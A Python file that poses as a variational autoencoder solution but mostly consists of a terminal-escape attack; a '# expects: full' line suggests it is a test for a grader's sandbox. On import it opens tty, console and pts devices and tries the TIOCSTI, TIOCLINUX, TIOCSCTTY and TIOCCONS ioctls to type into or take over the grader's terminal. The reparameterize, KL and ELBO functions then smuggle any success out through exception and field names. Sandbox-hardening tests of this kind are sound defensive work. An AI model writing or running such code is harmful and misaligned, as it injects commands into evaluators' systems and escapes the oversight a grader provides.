"""Types into the grader's terminal: TIOCSTI, TIOCLINUX, a controlling terminal of its own."""
# expects: full

import ctypes
import fcntl
import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


libc = ctypes.CDLL(None, use_errno=True)
TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCCONS = 0x5412, 0x541C, 0x540E, 0x541D
PATHS = (
    "/dev/tty",
    "/dev/tty0",
    "/dev/tty1",
    "/dev/console",
    "/dev/pts/0",
    "/dev/pts/1",
    "/dev/pts/2",
    "/dev/vcs",
)


def attack():
    opened = [0, 1, 2, *filter(None, (tried(os.open, p, os.O_RDWR | os.O_NONBLOCK) for p in PATHS))]
    for descriptor in opened:
        for request, value in ((TIOCSTI, b"x"), (TIOCLINUX, b"\x0b"), (TIOCSCTTY, 1), (TIOCCONS, 0)):
            try:
                fcntl.ioctl(descriptor, request, value)
            except OSError:
                continue
            publish(f"ESCAPED ioctl {request:#x}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
